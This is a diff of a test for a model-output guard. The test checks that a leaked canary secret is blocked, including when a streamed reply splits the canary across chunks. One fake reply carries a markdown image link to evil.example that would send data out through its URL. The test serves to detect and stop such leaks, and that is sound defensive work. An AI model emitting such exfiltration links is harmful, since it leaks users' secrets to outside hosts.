@@ -59,7 +59,7 @@ async def test_everything_together(tmp_path: Path, monkeypatch: pytest.MonkeyPat
             upstream.default = answer(chat_reply(f"The marker is {CANARY.upper()}."))
             verdict, rule, text = await ask()
             assert (verdict, rule) == ("block", "output.canary")
-            assert "7719" not in text
+            assert "quartz" not in text.casefold()  # the digits alone may stand in an id
             upstream.default = stream([chat(["It is zebra-", "quartz-77", "19, and ![x](http://evil.example/?d=1)"])])
             _, _, text = await ask(stream=True)
             said = read(text.encode())
